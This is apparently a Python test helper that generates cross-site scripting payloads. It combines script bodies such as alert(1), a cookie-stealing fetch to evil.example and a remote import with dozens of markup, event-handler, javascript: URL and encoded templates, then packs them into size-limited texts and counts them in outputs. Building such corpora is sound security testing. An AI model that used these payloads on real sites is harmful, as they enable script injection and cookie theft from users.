"""Texts that would run a script where they were taken for markup."""

from collections.abc import Iterable
from functools import cache
from itertools import product

TEXT_MAX = 1_900  # characters of one text, of the 2,000 that a pack allows
LEAST = 300  # payloads in each field of a whole run
RUN = "hit()"
RUNS = (
    RUN,
    "alert(1)",
    "top['hit']()",
    "window.hit&&hit()",
    "import('//evil.example/x.js')",
    "fetch('//evil.example/'+document.cookie)",
    "setTimeout('hit()')",
    "Function('hit()')()",
)
# What reaches a script when markup is parsed: {} is the script.
MARKUP = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<script/x>{}</script>",
    "<svg><script>{}</script></svg>",
    "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{}'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={} />#x'>",
    "<img src=x onerror={}>",
    "<img/src/onerror={}>",
    '<img src="x` `<script>{}</script>"` `>',
    "<image src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe onload={}></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{} autofocus>x</a>",
    "<form action=javascript:{}><button autofocus>x</button></form>",
    "<button form=f formaction=javascript:{}>x</button><form id=f>",
    "<math><mtext><table><mglyph><style><img src onerror={}></style></mglyph></table></mtext></math>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style onload={}></style>",
    "<div style=background:url(//evil.example/x)>x</div>",
    "<x onclick={} style=position:fixed;inset:0>x</x>",
    "<marquee onstart={}>x</marquee>",
    "<body onload={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<template><script>{}</script></template>",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<img src=x onerror={}>]]>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</script><script>{}</script>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    '" autofocus onfocus={} x="',
    "' style=animation-name:x onanimationstart={} '",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "data:text/html,<script>{}</script>",
    "&lt;img src=x onerror={}&gt;",
    "&#60;img src=x onerror={}&#62;",
    "\\u003cimg src=x onerror={}\\u003e",
    "%3Cimg%20src%3Dx%20onerror%3D{}%3E",
    "[x](javascript:{})",
    "![x](x onerror={})",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "`;{};`",
    "';{};//",
    "\u202e<img src=x onerror={}>\u202c",
    "<img src=x onerror={}>\u2066",
)


def payloads() -> list[str]:
    """Each once."""
    return list(dict.fromkeys(markup.format(run) for run, markup in product(RUNS, MARKUP)))


@cache
def texts(at_most: int = TEXT_MAX) -> list[str]:
    """All of them that fit in as few texts of so many characters as hold them."""
    found = [""]
    for payload in payloads():
        if len(payload) > at_most:
            continue
        longer = f"{found[-1]} {payload}".strip()
        if len(longer) <= at_most:
            found[-1] = longer
        else:
            found.append(payload)
    return found


def payloads_in(said: Iterable[str]) -> int:
    """How many of them these texts say, as they are or as an address says them."""
    every = "\n".join(said)
    return sum(payload in every or squeezed(payload) in every for payload in payloads())


def as_address(text: str) -> str:
    """The same where only a web address may stand."""
    return f"https://x.example/?{squeezed(text)}"


def squeezed(text: str) -> str:
    """Without a space, and nothing but ASCII."""
    return text.replace(" ", "/").encode("ascii", "ignore").decode()


@cache
def enough(at_most: int) -> int:
    """How many of the texts of so many characters say at least `LEAST` payloads."""
    every = texts(at_most)
    return next(many for many in range(1, len(every) + 1) if payloads_in(every[:many]) >= LEAST)
